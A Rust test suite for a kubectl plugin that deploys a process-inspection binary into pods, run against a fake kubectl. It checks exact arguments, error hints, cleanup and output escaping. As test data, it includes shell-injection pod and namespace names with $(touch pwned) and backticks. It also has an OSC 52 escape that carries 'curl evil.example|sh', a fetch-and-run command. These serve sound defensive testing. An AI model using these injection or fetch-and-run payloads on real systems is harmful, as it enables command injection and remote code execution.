//! scripts/kubectl-tsnap, the kubectl plugin, against a stand-in for kubectl
//! (tests/plugin/kubectl). There is no Kubernetes cluster here, so the stand-in is the one fake
//! in these tests: it records every command line the plugin gives kubectl and plays the answers
//! a cluster would give (a pod with tar, a distroless pod, a refused permission, an image the
//! node cannot pull, a pod that is not running). What these tests check is the plugin's side:
//! the exact arguments of each kubectl command, in order, whatever bytes the names and
//! tsnap's arguments hold, what it prints, and its exit status. What tsnap sees in each way
//! in is measured with real containers in tests/kubernetes.rs.

use crate::util::{self, Run, TempDir, finish, holds};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

const MANIFEST: &str = env!("CARGO_MANIFEST_DIR");

fn plugin() -> PathBuf {
    Path::new(MANIFEST).join("scripts/kubectl-tsnap")
}

/// A scenario: the stand-in's answers, where the binaries are, and what it recorded.
struct Cluster {
    dir: TempDir,
    /// The directory the plugin finds the tsnap binaries in.
    binaries: PathBuf,
    /// The plugin's working directory, which must stay empty.
    cwd: PathBuf,
}

/// What a pod answers to the plugin's `kubectl get pod`: phase, containers, which run.
fn pod_answer(phase: &str, containers: &[&str], running: &[&str]) -> String {
    let mut out = format!("phase\t{phase}\ndefault\t\n");
    for c in containers {
        out += &format!("container\t{c}\n");
    }
    for c in running {
        out += &format!("running\t{c}\t2026-11-30T10:00:00Z\n");
    }
    out
}

const PROBE_OK: &str = "tsnap-probe ok x86_64 /tmp/tsnap.Ab3dE9\n";
const NO_SHELL: &str = "error: Internal error occurred: error executing command in container: \
    failed to exec in container: failed to start exec \"4f2a\": OCI runtime exec failed: exec \
    failed: unable to start container process: exec: \"sh\": executable file not found in $PATH: \
    unknown\n";
const CREATING: &str = "waiting\tContainerCreating\t\nrunning\t\nterminated\t\n";
const RUNNING: &str = "waiting\t\t\nrunning\t2026-11-30T10:00:05Z\nterminated\t\n";
const IMAGE: &str = "registry.example/tools/tsnap:0.1.0";

impl Cluster {
    fn new() -> Cluster {
        let dir = TempDir::new("kubectl");
        let binaries = dir.0.join("binaries");
        let cwd = dir.0.join("cwd");
        for d in [&binaries, &cwd] {
            std::fs::create_dir(d).unwrap();
        }
        for arch in ["x86_64", "aarch64"] {
            std::fs::write(binaries.join(format!("tsnap-{arch}-linux-musl")), arch).unwrap();
        }
        Cluster { dir, binaries, cwd }
    }

    /// What calls of `kind` answer (`kind.N` for the Nth call only).
    fn answer(&self, kind: &str, out: &str, err: &str, rc: i32) -> &Cluster {
        let file = |ext: &str| self.dir.0.join(format!("{kind}.{ext}"));
        std::fs::write(file("out"), out).unwrap();
        std::fs::write(file("err"), err).unwrap();
        std::fs::write(file("rc"), rc.to_string()).unwrap();
        self
    }

    fn pod(&self, phase: &str, containers: &[&str], running: &[&str]) -> &Cluster {
        self.answer("pod", &pod_answer(phase, containers, running), "", 0)
    }

    /// A running pod with one container, `app`, whose shell answers the probe with `probe`.
    fn with_tar(&self, probe: &str) -> &Cluster {
        self.pod("Running", &["app"], &["app"]);
        self.answer("probe", probe, "", 0)
    }

    /// A running pod whose container `app` has no shell; the ephemeral container runs at once,
    /// prints `logs` and ends with `exit`.
    fn distroless(&self, logs: &str, exit: i32) -> &Cluster {
        self.pod("Running", &["app"], &["app"]);
        self.answer("probe", "", NO_SHELL, 1);
        self.answer("state.1", RUNNING, "", 0);
        self.answer(
            "state",
            &format!("waiting\t\t\nrunning\t\nterminated\t{exit}\n"),
            "",
            0,
        );
        self.answer("logs", logs, "", 0)
    }

    fn command(&self, shell: Option<&str>, args: &[&str]) -> Command {
        let mut c = match shell {
            Some(sh) => {
                let mut c = Command::new(sh);
                c.arg(plugin());
                c
            }
            None => Command::new(plugin()),
        };
        c.args(args)
            .current_dir(&self.cwd)
            .env("PATH", format!("{MANIFEST}/tests/plugin:/usr/bin:/bin"))
            .env("KUBECTL_FAKE", &self.dir.0)
            .env("TSNAP_BINARIES", &self.binaries)
            .env("TMPDIR", &self.dir.0)
            .env_remove("TSNAP_IMAGE")
            .stdin(Stdio::null());
        c
    }

    /// Runs the plugin with `args`, by its `#!/bin/sh` line.
    fn run(&self, args: &[&str]) -> Run {
        self.run_with(None, args)
    }

    fn run_with(&self, shell: Option<&str>, args: &[&str]) -> Run {
        let out = finish(self.command(shell, args).output().unwrap());
        let left: Vec<_> = std::fs::read_dir(&self.cwd).unwrap().collect();
        assert!(
            left.is_empty(),
            "files appeared in the working directory: {left:?}"
        );
        let temp: Vec<_> = std::fs::read_dir(&self.dir.0)
            .unwrap()
            .filter_map(|e| e.ok())
            .filter(|e| {
                e.file_name()
                    .to_string_lossy()
                    .starts_with("kubectl-tsnap.")
            })
            .collect();
        assert!(temp.is_empty(), "the plugin left its temporary directory");
        out
    }

    /// Every kubectl command line, in order.
    fn calls(&self) -> Vec<Vec<String>> {
        let raw = std::fs::read(self.dir.0.join("argv")).unwrap_or_default();
        let mut fields = raw
            .split(|&b| b == 0)
            .map(|f| String::from_utf8(f.to_vec()).unwrap());
        let mut calls = Vec::new();
        while let Some(n) = fields.next() {
            if n.is_empty() {
                break;
            }
            let n: usize = n.parse().unwrap();
            calls.push(fields.by_ref().take(n).collect());
        }
        calls
    }

    fn binary(&self, arch: &str) -> String {
        self.binaries
            .join(format!("tsnap-{arch}-linux-musl"))
            .to_string_lossy()
            .into_owned()
    }
}

fn strings(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

/// The calls with the long texts the plugin passes (its jsonpath templates and its probe)
/// replaced by what they are, so that whole command lines can be compared.
fn shapes(calls: &[Vec<String>]) -> Vec<Vec<String>> {
    calls
        .iter()
        .map(|c| {
            c.iter()
                .map(|a| {
                    if a.starts_with("--output=jsonpath=") {
                        if a.contains("ephemeralContainerStatuses") {
                            "STATE".to_string()
                        } else {
                            "POD".to_string()
                        }
                    } else if a.starts_with("command -v tar") {
                        "PROBE".to_string()
                    } else {
                        a.clone()
                    }
                })
                .collect()
        })
        .collect()
}

/// The name the plugin gave its ephemeral container, from its `kubectl debug`.
fn debug_name(calls: &[Vec<String>]) -> String {
    calls
        .iter()
        .flatten()
        .find_map(|a| a.strip_prefix("--container=tsnap-"))
        .map(|n| format!("tsnap-{n}"))
        .expect("no ephemeral container")
}

#[test]
fn a_container_with_tar_gets_the_binary_for_its_architecture_run_as_its_user_then_removed() {
    let k = Cluster::new();
    k.with_tar(PROBE_OK);
    k.answer("tsnap", "  pid   tid state\n", "wchan: not readable\n", 1);
    let out = k.run(&["web-0", "-n", "shop", "-c", "app", "--", "-C", "java"]);
    let dir = "/tmp/tsnap.Ab3dE9";
    let expected = vec![
        strings(&["--namespace=shop", "get", "pod", "web-0", "POD"]),
        strings(&[
            "--namespace=shop",
            "exec",
            "web-0",
            "--container=app",
            "--",
            "sh",
            "-c",
            "PROBE",
        ]),
        strings(&[
            "--namespace=shop",
            "cp",
            &k.binary("x86_64"),
            &format!("web-0:{dir}/tsnap"),
            "--container=app",
        ]),
        strings(&[
            "--namespace=shop",
            "exec",
            "web-0",
            "--container=app",
            "--",
            &format!("{dir}/tsnap"),
            "-C",
            "java",
        ]),
        strings(&[
            "--namespace=shop",
            "exec",
            "web-0",
            "--container=app",
            "--",
            "rm",
            "-rf",
            "--",
            dir,
        ]),
    ];
    assert_eq!(shapes(&k.calls()), expected, "{}", out.stderr);
    // tsnap's output and exit status come back as they were.
    assert_eq!(out.stdout, "  pid   tid state\n");
    assert_eq!(out.status, 1);
    holds(&out.stderr, "wchan: not readable\n");
    holds(
        &out.stderr,
        "container app has tar: running tsnap (x86_64) from /tmp/tsnap.Ab3dE9 as the container's own user",
    );
}

#[test]
fn the_probe_runs_in_a_real_shell_and_says_what_it_found() {
    // The probe is shell code run by the container's sh: run it here, with and without tar.
    let k = Cluster::new();
    k.with_tar(PROBE_OK).answer("tsnap", "", "", 0);
    succeeded(k.run(&["web-0"]));
    let probe = k.calls()[1][6].clone();
    let run = |path: &str| {
        finish(
            Command::new("sh")
                .args(["-c", &probe])
                .env("PATH", path)
                .output()
                .unwrap(),
        )
    };
    let found = run("/usr/bin:/bin");
    let words: Vec<&str> = found.stdout.split_whitespace().collect();
    assert_eq!(
        words[..3],
        ["tsnap-probe", "ok", std::env::consts::ARCH],
        "{}",
        found.stdout
    );
    assert!(
        words[3].starts_with("/tmp/tsnap.") && words[3].len() == 17,
        "{}",
        found.stdout
    );
    assert!(Path::new(words[3]).is_dir());
    std::fs::remove_dir(words[3]).unwrap();
    // Without tar on PATH (a directory with every program of /usr/bin but tar).
    let bin = TempDir::new("notar");
    for e in std::fs::read_dir("/usr/bin").unwrap().flatten() {
        if e.file_name() != "tar" {
            let _ = std::os::unix::fs::symlink(e.path(), bin.0.join(e.file_name()));
        }
    }
    let path = bin.0.to_string_lossy().into_owned();
    assert_eq!(run(&path).stdout, "tsnap-probe no-tar\n");
}

/// The plugin's run, which must have succeeded.
fn succeeded(run: Run) -> Run {
    assert_eq!(
        run.status, 0,
        "stdout:\n{}\nstderr:\n{}",
        run.stdout, run.stderr
    );
    run
}

#[test]
fn an_arm64_node_gets_the_aarch64_binary_found_beside_the_plugin_through_its_symlink() {
    // As krew installs it: the plugin and the binaries in one directory, a symlink on PATH.
    let k = Cluster::new();
    k.with_tar("tsnap-probe ok aarch64 /tmp/tsnap.zZ09aa\n")
        .answer("tsnap", "", "", 0);
    let store = k.dir.0.join("store");
    std::fs::create_dir(&store).unwrap();
    std::fs::copy(plugin(), store.join("kubectl-tsnap")).unwrap();
    std::fs::write(store.join("tsnap-aarch64-linux-musl"), "aarch64").unwrap();
    let bin = k.dir.0.join("bin");
    std::fs::create_dir(&bin).unwrap();
    std::os::unix::fs::symlink("../store/kubectl-tsnap", bin.join("kubectl-tsnap")).unwrap();
    let out = succeeded(finish(
        Command::new(bin.join("kubectl-tsnap"))
            .arg("db-1")
            .env("PATH", format!("{MANIFEST}/tests/plugin:/usr/bin:/bin"))
            .env("KUBECTL_FAKE", &k.dir.0)
            .env("TMPDIR", &k.dir.0)
            .output()
            .unwrap(),
    ));
    let calls = k.calls();
    let cp = calls.iter().find(|c| c[0] == "cp").expect("no kubectl cp");
    assert_eq!(
        cp[1],
        store.join("tsnap-aarch64-linux-musl").to_string_lossy(),
        "{}",
        out.stderr
    );
    holds(&out.stderr, "running tsnap (aarch64)");
}

#[test]
fn fetch_copies_what_tsnap_saved_in_the_pod_to_the_laptop() {
    let k = Cluster::new();
    k.with_tar(PROBE_OK).answer("tsnap", "report\n", "", 0);
    std::fs::write(k.dir.0.join("fetched"), "{\"type\":\"pass\"}\n").unwrap();
    let local = k.dir.0.join("local");
    std::fs::create_dir(&local).unwrap();
    let local_arg = local.to_string_lossy().into_owned();
    let out = succeeded(k.run(&[
        "web-0",
        "--fetch",
        &local_arg,
        "--",
        "sample",
        "-d",
        "2",
        "--save",
        "/data/s.jsonl",
        "-G",
        "syscall",
    ]));
    let dir = "/tmp/tsnap.Ab3dE9";
    let calls = shapes(&k.calls());
    assert_eq!(
        calls[3],
        strings(&[
            "exec",
            "web-0",
            "--container=app",
            "--",
            &format!("{dir}/tsnap"),
            "sample",
            "-d",
            "2",
            "--save",
            &format!("{dir}/s.jsonl"),
            "-G",
            "syscall"
        ])
    );
    assert_eq!(
        calls[4],
        strings(&[
            "cp",
            &format!("web-0:{dir}/s.jsonl"),
            &format!("{local_arg}/s.jsonl"),
            "--container=app"
        ])
    );
    assert_eq!(
        calls[5],
        strings(&[
            "exec",
            "web-0",
            "--container=app",
            "--",
            "rm",
            "-rf",
            "--",
            dir
        ])
    );
    assert_eq!(calls.len(), 6);
    assert_eq!(
        std::fs::read_to_string(local.join("s.jsonl")).unwrap(),
        "{\"type\":\"pass\"}\n"
    );
    assert_eq!(out.stdout, "report\n");
    holds(&out.stderr, &format!("fetched {local_arg}/s.jsonl"));

    // --output-dir, given with '=', and a trailing slash.
    let k = Cluster::new();
    k.with_tar(PROBE_OK).answer("tsnap", "", "", 0);
    std::fs::write(k.dir.0.join("fetched"), "csv\n").unwrap();
    succeeded(k.run(&[
        "web-0",
        "--fetch",
        &local_arg,
        "--",
        "watch",
        "-d",
        "3",
        "--output-dir=/var/xcap/",
    ]));
    let calls = shapes(&k.calls());
    assert_eq!(
        calls[3][5..],
        strings(&["watch", "-d", "3", "--output-dir", &format!("{dir}/xcap")])[..]
    );
    assert_eq!(calls[4][1], format!("web-0:{dir}/xcap"));
}

#[test]
fn a_distroless_pod_gets_an_ephemeral_container_whose_logs_and_exit_status_come_back() {
    let k = Cluster::new();
    k.distroless("  pid   tid state\n    1    30 R\n", 0);
    k.answer("state.1", CREATING, "", 0)
        .answer("state.2", RUNNING, "", 0);
    let out = succeeded(k.run(&["web-0", "-c", "app", "--image", IMAGE, "--", "-C", "java"]));
    let calls = k.calls();
    let name = debug_name(&calls);
    assert!(name.len() <= 63, "{name}");
    let expected = vec![
        strings(&["get", "pod", "web-0", "POD"]),
        strings(&[
            "exec",
            "web-0",
            "--container=app",
            "--",
            "sh",
            "-c",
            "PROBE",
        ]),
        strings(&[
            "debug",
            "web-0",
            "--quiet",
            &format!("--image={IMAGE}"),
            "--target=app",
            &format!("--container={name}"),
            "--profile=general",
            "--",
            "/tsnap",
            "-C",
            "java",
        ]),
        strings(&["get", "pod", "web-0", "STATE"]),
        strings(&["get", "pod", "web-0", "STATE"]),
        strings(&["logs", "--follow", "web-0", &format!("--container={name}")]),
        strings(&["get", "pod", "web-0", "STATE"]),
    ];
    assert_eq!(shapes(&calls), expected, "{}", out.stderr);
    // The state is asked of this ephemeral container only.
    assert!(
        calls[3][3].contains(&format!("[?(@.name==\"{name}\")]")),
        "{}",
        calls[3][3]
    );
    assert_eq!(out.stdout, "  pid   tid state\n    1    30 R\n");
    for says in [
        "container app has no shell (kubectl exec: error: Internal error occurred",
        &format!(
            "running tsnap in ephemeral container {name} from {IMAGE}, sharing the processes of container app"
        ),
        "general profile: SYS_PTRACE added",
        "until the pod goes",
    ] {
        assert!(out.stderr.contains(says), "{says} in {}", out.stderr);
    }

    // tsnap's exit status, from the terminated container.
    let k = Cluster::new();
    k.distroless("no process named java\n", 1);
    let out = k.run(&["web-0", "--image", IMAGE, "--", "-C", "java"]);
    assert_eq!(out.status, 1, "{}", out.stderr);
    assert_eq!(out.stdout, "no process named java\n");
}

#[test]
fn the_profile_is_the_least_that_gives_the_columns_asked_for_unless_one_is_given() {
    let profile = |args: &[&str]| {
        let k = Cluster::new();
        k.distroless("", 0);
        let mut all = vec!["web-0", "--image", IMAGE, "--"];
        all.extend_from_slice(args);
        let out = succeeded(k.run(&all));
        let calls = k.calls();
        let debug = calls.iter().find(|c| c[0] == "debug").unwrap().clone();
        let p = debug
            .iter()
            .find_map(|a| a.strip_prefix("--profile="))
            .unwrap()
            .to_string();
        (p, out.stderr)
    };
    assert_eq!(profile(&["-C", "java"]).0, "general");
    assert_eq!(
        profile(&["-o", "pid,tid,state,pcpu,comm,runq"]).0,
        "baseline"
    );
    assert_eq!(
        profile(&["watch", "-d", "5", "--columns=tid,comm,nspid"]).0,
        "baseline"
    );
    assert_eq!(profile(&["-o", "pid,tid,wchan"]).0, "general");
    assert_eq!(profile(&["-otid,syscall"]).0, "general");
    assert_eq!(profile(&["dump", "-p", "1", "--java"]).0, "general");
    assert_eq!(profile(&["sample", "-o", "tid"]).0, "general");
    let (p, said) = profile(&["-o", "tid,kstack"]);
    assert_eq!(p, "general");
    assert!(said.contains("kstack needs --profile sysadmin"), "{said}");

    // --profile is passed on as given, and means an ephemeral container even with tar.
    let k = Cluster::new();
    k.distroless("", 0);
    k.answer("probe", PROBE_OK, "", 0);
    succeeded(k.run(&[
        "web-0",
        "--profile",
        "sysadmin",
        "--image",
        IMAGE,
        "--",
        "-o",
        "tid,kstack",
    ]));
    let calls = shapes(&k.calls());
    assert!(calls.iter().all(|c| c[0] != "exec"), "{calls:?}");
    assert!(
        calls[1].contains(&"--profile=sysadmin".to_string()),
        "{calls:?}"
    );
}

#[test]
fn user_runs_the_ephemeral_container_as_that_user_through_a_custom_profile() {
    let k = Cluster::new();
    k.distroless("", 0);
    succeeded(k.run(&[
        "web-0",
        "--user",
        "65532:65532",
        "--profile=restricted",
        "--image",
        IMAGE,
    ]));
    let calls = k.calls();
    let debug = calls.iter().find(|c| c[0] == "debug").unwrap();
    assert!(debug[3].starts_with("--custom="), "{debug:?}");
    assert!(
        debug.contains(&"--profile=restricted".to_string()),
        "{debug:?}"
    );
    let custom = std::fs::read_to_string(k.dir.0.join("custom.json")).unwrap();
    let json: serde_json::Value = serde_json::from_str(&custom).unwrap();
    assert_eq!(
        json,
        serde_json::json!({"securityContext": {"runAsUser": 65532, "runAsGroup": 65532}})
    );

    // Root, in a pod that asks for non-root containers: it has to be said outright.
    let k = Cluster::new();
    k.distroless("", 0);
    succeeded(k.run(&["web-0", "--user", "0", "--image", IMAGE]));
    let custom = std::fs::read_to_string(k.dir.0.join("custom.json")).unwrap();
    let json: serde_json::Value = serde_json::from_str(&custom).unwrap();
    assert_eq!(
        json,
        serde_json::json!({"securityContext": {"runAsUser": 0, "runAsNonRoot": false}})
    );

    let k = Cluster::new();
    let out = k.run(&["web-0", "--user", "nonroot"]);
    assert_eq!(out.status, 2);
    holds(&out.stderr, "--user takes a numeric UID[:GID]");
    assert!(k.calls().is_empty());
}

#[test]
fn no_permission_for_ephemeral_containers_is_kubectls_message_and_a_hint() {
    let k = Cluster::new();
    k.distroless("", 0);
    let forbidden = "Error from server (Forbidden): pods \"web-0\" is forbidden: User \"dev\" cannot patch resource \"pods/ephemeralcontainers\" in API group \"\" in the namespace \"shop\"\n";
    k.answer("debug", "", forbidden, 1);
    let out = k.run(&["web-0", "-n", "shop", "--image", IMAGE]);
    assert_eq!(out.status, 1);
    holds(&out.stderr, forbidden);
    holds(
        &out.stderr,
        "kubectl-tsnap: adding an ephemeral container needs permission to patch pods/ephemeralcontainers; check with: kubectl auth can-i patch pods/ephemeralcontainers -n shop",
    );
    assert_eq!(k.calls().len(), 3, "nothing after the refused debug");

    // No permission to exec, in a pod that might have tar: said, not taken for no shell.
    let k = Cluster::new();
    k.pod("Running", &["app"], &["app"]);
    let forbidden = "Error from server (Forbidden): pods \"web-0\" is forbidden: User \"dev\" cannot create resource \"pods/exec\" in API group \"\" in the namespace \"default\"\n";
    k.answer("probe", "", forbidden, 1);
    let out = k.run(&["web-0", "--image", IMAGE]);
    assert_eq!(out.status, 1);
    holds(&out.stderr, forbidden);
    holds(&out.stderr, "kubectl auth can-i create pods/exec");
    assert_eq!(k.calls().len(), 2);
}

#[test]
fn an_image_the_node_cannot_pull_ends_the_run_with_the_kubelets_message() {
    let k = Cluster::new();
    k.distroless("", 0);
    let message = "rpc error: code = NotFound desc = failed to pull and unpack image \"registry.example/tools/tsnap:0.1.0\": not found";
    k.answer("state.1", CREATING, "", 0);
    k.answer(
        "state.2",
        &format!("waiting\tErrImagePull\t{message}\nrunning\t\nterminated\t\n"),
        "",
        0,
    );
    let out = k.run(&["web-0", "--image", IMAGE]);
    assert_eq!(out.status, 1);
    holds(&out.stderr, &format!("ErrImagePull: {message}"));
    holds(&out.stderr, &format!("the node cannot pull {IMAGE}"));
    assert!(k.calls().iter().all(|c| c[0] != "logs"));

    // A pod that asks for non-root containers refuses tsnap's image, which runs as root.
    let k = Cluster::new();
    k.distroless("", 0);
    k.answer("state.1", "waiting\tCreateContainerConfigError\tcontainer has runAsNonRoot and image will run as root (pod: \"web-0_shop\", container: tsnap-1)\nrunning\t\nterminated\t\n", "", 0);
    let out = k.run(&["web-0", "--image", IMAGE]);
    assert_eq!(out.status, 1);
    holds(
        &out.stderr,
        "run it as the application's user with --user UID",
    );
}

#[test]
fn a_pod_that_is_not_running_is_said_so_and_nothing_is_started() {
    let k = Cluster::new();
    k.pod("Pending", &["app"], &[]);
    let out = k.run(&["web-0", "--image", IMAGE]);
    assert_eq!(out.status, 1);
    holds(&out.stderr, "pod web-0 is Pending, not Running");
    assert_eq!(k.calls().len(), 1);

    let k = Cluster::new();
    k.pod("Running", &["app", "proxy"], &["proxy"]);
    let out = k.run(&["web-0", "-c", "app", "--image", IMAGE]);
    assert_eq!(out.status, 1);
    holds(&out.stderr, "container app of pod web-0 is not running");
    assert_eq!(k.calls().len(), 1);

    let k = Cluster::new();
    k.pod("Running", &["app"], &["app"]);
    let out = k.run(&["web-0", "-c", "db"]);
    assert_eq!(out.status, 1);
    holds(&out.stderr, "pod web-0 has no container db");

    // A pod that does not exist: kubectl's word for it, and a hint.
    let k = Cluster::new();
    k.answer(
        "pod",
        "",
        "Error from server (NotFound): pods \"web-9\" not found\n",
        1,
    );
    let out = k.run(&["web-9", "-n", "shop"]);
    assert_eq!(out.status, 1);
    holds(
        &out.stderr,
        "Error from server (NotFound): pods \"web-9\" not found",
    );
    holds(&out.stderr, "no pod web-9 in namespace shop");
}

#[test]
fn the_ephemeral_way_refuses_what_it_cannot_do_before_starting_anything() {
    // No image: none is published, and it says how to make one.
    let k = Cluster::new();
    k.distroless("", 0);
    let out = k.run(&["web-0"]);
    assert_eq!(out.status, 1);
    holds(
        &out.stderr,
        "No image is published: build one with scripts/image",
    );
    assert!(k.calls().iter().all(|c| c[0] != "debug"));
    // ... unless TSNAP_IMAGE names one.
    let k = Cluster::new();
    k.distroless("", 0);
    succeeded(finish(
        k.command(None, &["web-0"])
            .env("TSNAP_IMAGE", IMAGE)
            .output()
            .unwrap(),
    ));
    assert!(
        k.calls()
            .iter()
            .flatten()
            .any(|a| *a == format!("--image={IMAGE}"))
    );

    // --fetch: the image has no tar and its files go with it.
    let k = Cluster::new();
    k.distroless("", 0);
    let local = k.dir.0.to_string_lossy().into_owned();
    let out = k.run(&[
        "web-0", "--image", IMAGE, "--fetch", &local, "--", "sample", "--save", "s.jsonl",
    ]);
    assert_eq!(out.status, 1);
    holds(
        &out.stderr,
        "--fetch cannot work there: its image holds nothing but tsnap (no tar for kubectl cp)",
    );
    assert!(k.calls().iter().all(|c| c[0] != "debug"));

    // watch with no end: an ephemeral container cannot be stopped.
    let k = Cluster::new();
    k.distroless("", 0);
    let out = k.run(&["web-0", "--image", IMAGE, "--", "watch", "-i", "2"]);
    assert_eq!(out.status, 1);
    holds(&out.stderr, "give it -d SECONDS");
    assert!(k.calls().iter().all(|c| c[0] != "debug"));
}

#[test]
fn bad_usage_is_status_2_with_a_hint() {
    let k = Cluster::new();
    for (args, says) in [
        (&[][..], "which pod?"),
        (&["web-0", "web-1"][..], "one pod at a time"),
        (
            &["web-0", "-C", "java"][..],
            "unknown option -C (tsnap's own options go after --)",
        ),
        (&["web-0", "--profile", "root"][..], "--profile is one of"),
        (&["web-0", "-n"][..], "-n needs a value"),
        (
            &["web-0", "--fetch", "/nonexistent/dir"][..],
            "no such directory",
        ),
    ] {
        let out = k.run(args);
        assert_eq!(out.status, 2, "{args:?}");
        assert!(out.stderr.contains(says), "{args:?}: {}", out.stderr);
        holds(&out.stderr, "see: kubectl tsnap --help");
    }
    assert!(k.calls().is_empty());
    let help = succeeded(k.run(&["--help"]));
    assert!(
        help.stdout.starts_with("Usage: kubectl tsnap POD"),
        "{}",
        help.stdout
    );
}

/// Names and arguments that would do harm if anything evaluated them.
const HOSTILE_POD: &str = "we b'0\"$(touch pwned)`touch pwned2`;x";
const HOSTILE_NS: &str = "n s;$(touch pwned3)";
const HOSTILE_CONTAINER: &str = "c'\"; touch pwned4 #";
const HOSTILE_ARGS: [&str; 9] = [
    "-C",
    "ja va",
    "$(touch pwned5)",
    ";",
    "'",
    "\"",
    "\\",
    "*",
    "-o=a b",
];

#[test]
fn hostile_names_and_arguments_reach_kubectl_exactly_as_given() {
    for shell in [None, Some("bash")] {
        // With tar.
        let k = Cluster::new();
        k.pod("Running", &[HOSTILE_CONTAINER], &[HOSTILE_CONTAINER]);
        k.answer("probe", PROBE_OK, "", 0)
            .answer("tsnap", "out\n", "", 0);
        let mut args = vec![HOSTILE_POD, "-n", HOSTILE_NS, "-c", HOSTILE_CONTAINER, "--"];
        args.extend_from_slice(&HOSTILE_ARGS);
        let out = succeeded(k.run_with(shell, &args));
        let ns = format!("--namespace={HOSTILE_NS}");
        let c = format!("--container={HOSTILE_CONTAINER}");
        let dir = "/tmp/tsnap.Ab3dE9";
        let mut tsnap = strings(&[&ns, "exec", HOSTILE_POD, &c, "--", &format!("{dir}/tsnap")]);
        tsnap.extend(strings(&HOSTILE_ARGS));
        let expected = vec![
            strings(&[&ns, "get", "pod", HOSTILE_POD, "POD"]),
            strings(&[&ns, "exec", HOSTILE_POD, &c, "--", "sh", "-c", "PROBE"]),
            strings(&[
                &ns,
                "cp",
                &k.binary("x86_64"),
                &format!("{HOSTILE_POD}:{dir}/tsnap"),
                &c,
            ]),
            tsnap,
            strings(&[&ns, "exec", HOSTILE_POD, &c, "--", "rm", "-rf", "--", dir]),
        ];
        assert_eq!(shapes(&k.calls()), expected, "{shell:?}: {}", out.stderr);
        assert_eq!(out.stdout, "out\n");

        // In an ephemeral container.
        let k = Cluster::new();
        k.distroless("out\n", 0);
        k.pod("Running", &[HOSTILE_CONTAINER], &[HOSTILE_CONTAINER]);
        let mut args = vec![
            HOSTILE_POD,
            "--namespace",
            HOSTILE_NS,
            "--container",
            HOSTILE_CONTAINER,
            "--image",
            IMAGE,
            "--",
        ];
        args.extend_from_slice(&HOSTILE_ARGS);
        let out = succeeded(k.run_with(shell, &args));
        let calls = k.calls();
        let name = debug_name(&calls);
        let mut debug = strings(&[
            &ns,
            "debug",
            HOSTILE_POD,
            "--quiet",
            &format!("--image={IMAGE}"),
            &format!("--target={HOSTILE_CONTAINER}"),
            &format!("--container={name}"),
            "--profile=general",
            "--",
            "/tsnap",
        ]);
        debug.extend(strings(&HOSTILE_ARGS));
        assert_eq!(shapes(&calls)[2], debug, "{shell:?}");
        assert_eq!(
            shapes(&calls)[4],
            strings(&[
                &ns,
                "logs",
                "--follow",
                HOSTILE_POD,
                &format!("--container={name}")
            ])
        );
        assert_eq!(out.stdout, "out\n");
    }
}

#[test]
fn interrupted_it_still_removes_tsnap_from_the_container() {
    let k = Cluster::new();
    k.with_tar(PROBE_OK).answer("tsnap", "", "", 0);
    std::fs::write(k.dir.0.join("tsnap.sleep"), "30").unwrap();
    use std::os::unix::process::CommandExt;
    let mut child = k
        .command(None, &["web-0", "--", "watch"])
        .process_group(0)
        .spawn()
        .unwrap();
    let started = std::time::Instant::now();
    while k.calls().len() < 4 {
        assert!(
            started.elapsed().as_secs() < 10,
            "tsnap was not started: {:?}",
            k.calls()
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    // Ctrl-C: SIGINT to the whole process group, as a terminal sends it.
    // SAFETY: kill has no memory preconditions; the group is the child's own.
    unsafe { libc::kill(-(child.id() as i32), libc::SIGINT) };
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(130));
    let calls = shapes(&k.calls());
    assert_eq!(calls.len(), 5, "{calls:?}");
    assert_eq!(
        calls[4],
        strings(&[
            "exec",
            "web-0",
            "--container=app",
            "--",
            "rm",
            "-rf",
            "--",
            "/tmp/tsnap.Ab3dE9"
        ])
    );
}

/// OSC 52: a terminal that obeys it puts `curl evil.example|sh` into the clipboard.
const OSC52: &str = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07";

/// Fails if `text` (what the plugin printed on `stream`) holds a byte or character a terminal
/// would act on: a control byte but newline and tab, a C1 control, a bidi control.
fn nothing_for_a_terminal(text: &str, stream: &str) {
    let bad = text.chars().find(|&c| {
        (c.is_control() && c != '\n' && c != '\t') || ('\u{202a}'..='\u{202e}').contains(&c)
    });
    assert_eq!(bad, None, "{stream}: {text:?}");
}

#[test]
fn what_the_cluster_and_the_pod_say_is_escaped_before_it_is_printed() {
    // The node's architecture, as the container's uname answers it, in the error message.
    let k = Cluster::new();
    k.with_tar(&format!("tsnap-probe ok x86_64{OSC52} /tmp/tsnap.Ab3dE9\n"));
    let out = k.run(&["web-0"]);
    assert_eq!(out.status, 1, "{}", out.stderr);
    nothing_for_a_terminal(&out.stderr, "stderr");
    holds(
        &out.stderr,
        "container app runs on x86_64\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07, and there is no",
    );

    // kubectl's own message, and the names of the pod's containers.
    let k = Cluster::new();
    let message = format!("Error from server (NotFound): pods \"web\u{202e}0{OSC52}\" not found\n");
    k.answer("pod", "", &message, 1);
    let out = k.run(&["web-0"]);
    assert_eq!(out.status, 1);
    nothing_for_a_terminal(&out.stderr, "stderr");
    holds(&out.stderr, "pods \"web\\u{202e}0\\x1b]52;c;");
    let k = Cluster::new();
    let evil = format!("side{OSC52}");
    k.pod("Running", &[&evil, "app"], &[&evil, "app"]);
    k.answer("probe", "", NO_SHELL, 1);
    let out = k.run(&["web-0"]);
    nothing_for_a_terminal(&out.stderr, "stderr");
    holds(
        &out.stderr,
        "the pod has 2 containers: looking into side\\x1b]52;c;",
    );

    // What comes out of the container (whose /tmp its user may write: the binary run there
    // may not be tsnap), on both streams, with its exit status.
    let k = Cluster::new();
    k.with_tar(PROBE_OK)
        .answer("tsnap", "", &format!("warning{OSC52}\n"), 3);
    std::fs::write(k.dir.0.join("tsnap.out"), b"row \xff\xc2\x9b\x1b[2J\tend\n").unwrap();
    let out = k.run(&["web-0"]);
    assert_eq!(out.status, 3, "{}", out.stderr);
    nothing_for_a_terminal(&out.stdout, "stdout");
    nothing_for_a_terminal(&out.stderr, "stderr");
    assert_eq!(out.stdout, "row \\xff\\u{9b}\\x1b[2J\tend\n");
    holds(
        &out.stderr,
        "warning\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07\n",
    );

    // An ephemeral container's logs, and the kubelet's message about it.
    let k = Cluster::new();
